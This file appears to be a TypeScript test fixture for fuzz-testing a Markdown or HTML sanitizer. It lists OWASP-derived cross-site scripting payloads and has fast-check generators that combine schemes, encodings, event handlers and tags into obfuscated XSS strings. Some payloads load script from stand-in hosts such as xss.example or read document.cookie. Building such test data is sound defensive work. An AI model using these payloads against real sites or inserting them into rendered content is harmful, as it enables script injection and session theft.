import fc from 'fast-check';

/* Texts that would run something where they are shown without care: from OWASP's cheat sheet on filter evasion and public lists of payloads for Markdown. */

export const XSS_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=javascript:alert(&quot;XSS&quot;)>',
  '<IMG SRC=`javascript:alert("XSS")`>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<IMG SRC=# onmouseover="alert(1)">',
  '<IMG onmouseover="alert(1)">',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097">',
  '<img src=x onerror=alert(1)//',
  '<a onmouseover="alert(document.cookie)">x</a>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<IMG SRC=" &#14; javascript:alert(1);">',
  '<SCRIPT/XSS SRC="https://xss.example/x.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>',
  '<<SCRIPT>alert(1);//\\<</SCRIPT>',
  '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
  '<IFRAME srcdoc="<script>alert(1)</script>"></IFRAME>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert&lpar;1&rpar;</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><button formaction=javascript:alert(1)>x',
  '<details open ontoggle=alert(1)>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<embed src="javascript:alert(1)">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
  '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
  '<STYLE>@import"https://xss.example/x.css";</STYLE>',
  '<DIV STYLE="background-image: url(javascript:alert(1))">',
  '<base href="javascript:alert(1);//">',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror="alert(1)">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1))',
  '[x](j    a   v   a   s   c   r   i   p   t:prompt(1))',
  '[x](<java\nscript:alert(1)>)',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](//evil.example/x)',
  '[x](javascript://www.example.com%0Aalert(1))',
  '[x](http://a.example/"onmouseover="alert(1))',
  '[x](http://a.example/ "t\\" onmouseover=\\"alert(1)")',
  "[x]('javascript:alert(1)')",
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '<http://a.example/"onclick="alert(1)>',
  '![x](javascript:alert(1))',
  '![x](https://tracker.example/pixel.png)',
  '![x" onerror="alert(1)](x)',
  '![x](https://a.example/x.png"onload="alert(1))',
  '`<script>alert(1)</script>`',
  '```html" onclick="alert(1)\n<script>alert(1)</script>\n```',
  '> <script>alert(1)</script>',
  '| <script>alert(1)</script> |\n| --- |\n| <img src=x onerror=alert(1)> |',
  '# <img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\<script>alert(1)\\</script>',
  'https://a.example/<script>alert(1)</script>',
];

const BLANKS = ['', ' ', '\t', '\n', '\r', '\f', '\u0001', '\u00a0', '/', '&#9;', '&Tab;', '&NewLine;'];
const SCHEMES = ['javascript', 'JaVaScRiPt', 'vbscript', 'data', 'file', 'blob', 'feed', 'view-source'];
const COLONS = [':', '&colon;', '&#58;', '&#x3A;', '&#0000058', '%3A', '\\:'];
const BODIES = ['alert(1)', 'text/html,<script>alert(1)</script>', '//a.example/%0Aalert(1)', 'alert`1`'];
const HANDLERS = ['onerror', 'onload', 'onmouseover', 'onfocus', 'ontoggle', 'onbegin', 'onanimationstart'];
const TAGS = [
  ...[
    'script',
    'img',
    'svg',
    'svg/onload=alert(1)',
    'math',
    'iframe',
    'object',
    'embed',
    'style',
    'link',
    'base',
  ],
  ...['details', 'video', 'form', 'input', 'template', 'noscript', 'foreignObject', 'a', 'animate', 'mglyph'],
];
const QUOTES = ['"', "'", '`', '', '&quot;', '\\"'];
const ENDS = ['>', '/>', '//', '>x', '', '><', '&gt;', '-->', ']]>'];
const SHELLS: ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `![x](${address})`,
  (address) => `[![x](${address})](${address})`,
  (address) => `[x][y]\n\n[y]: ${address}`,
  (address) => `[y]: <${address}> "t"\n\n[y]`,
  (address) => `<${address}>`,
  (address) => `[a [b](${address}) c](${address})`,
  (address) => `<a href="${address}">x</a>`,
  (address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
];
const COATS: ((text: string) => string)[] = [
  (text) => text,
  (text) => `<!-- ${text} -->`,
  (text) => `<!--> ${text}`,
  (text) => `<![CDATA[${text}]]>`,
  (text) => `\`${text}\``,
  (text) => `| ${text} |\n| --- |\n| ${text} |`,
  (text) => `**${text}**`,
  (text) => `> # ${text}`,
  (text) => `\`\`\`${text}\n${text}\n\`\`\``,
  (text) => `<math><mtext>${text}</mtext></math>`,
];

const oneOf = <T>(values: readonly T[]) => fc.constantFrom(...values);
const address = fc
  .tuple(oneOf(BLANKS), oneOf(SCHEMES), oneOf(BLANKS), oneOf(COLONS), oneOf(BODIES))
  .map((parts) => parts.join(''));
const linked = fc.tuple(address, oneOf(SHELLS)).map(([to, shell]) => shell(to));
const element = fc
  .tuple(oneOf(TAGS), oneOf(BLANKS), oneOf(HANDLERS), oneOf(QUOTES), oneOf(ENDS))
  .map(
    ([tag, blank, handler, quote, end]) => `<${tag} ${blank}src=x ${handler}=${quote}alert(1)${quote}${end}`,
  );
const piece = fc.oneof(linked, element, oneOf(XSS_PAYLOADS));

/** Texts put together of such pieces: links of every kind with every scheme, elements with handlers, one in another. */
export const xssMixtures: fc.Arbitrary<string> = fc
  .tuple(fc.array(piece, { minLength: 1, maxLength: 3 }), fc.array(oneOf(COATS), { maxLength: 2 }))
  .map(([pieces, coats]) => coats.reduce((text, coat) => coat(text), pieces.join('')));
